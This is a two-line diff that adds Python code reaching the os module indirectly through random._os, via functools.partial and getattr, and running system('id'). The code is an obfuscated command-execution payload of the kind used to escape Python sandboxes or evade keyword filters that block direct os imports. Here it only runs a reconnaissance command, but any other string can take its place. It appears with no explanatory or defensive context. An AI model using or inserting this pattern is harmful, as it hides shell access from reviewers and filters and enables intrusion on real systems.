@@ -1,0 +1,2 @@
+import functools, random
+functools.partial(getattr, random)("_os").system("id")
